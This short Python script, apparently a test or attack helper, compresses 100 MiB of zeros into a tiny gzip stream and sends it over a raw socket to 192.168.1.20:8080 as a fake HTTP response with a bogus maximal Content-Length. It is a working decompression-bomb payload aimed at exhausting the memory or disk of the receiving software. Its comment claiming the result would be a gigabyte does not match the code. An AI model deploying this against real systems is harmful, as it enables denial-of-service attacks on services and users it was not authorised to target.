# A compressed answer that would become a gigabyte.
import socket
import zlib

print("tried enough", flush=True)
packer = zlib.compressobj(9, zlib.DEFLATED, 31)
body = b"".join(packer.compress(bytes(1 << 20)) for _ in range(100)) + packer.flush()
with socket.create_connection(("192.168.1.20", 8080)) as s:
    s.sendall(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 4294967295\r\n\r\n" + body)
    s.recv(100)
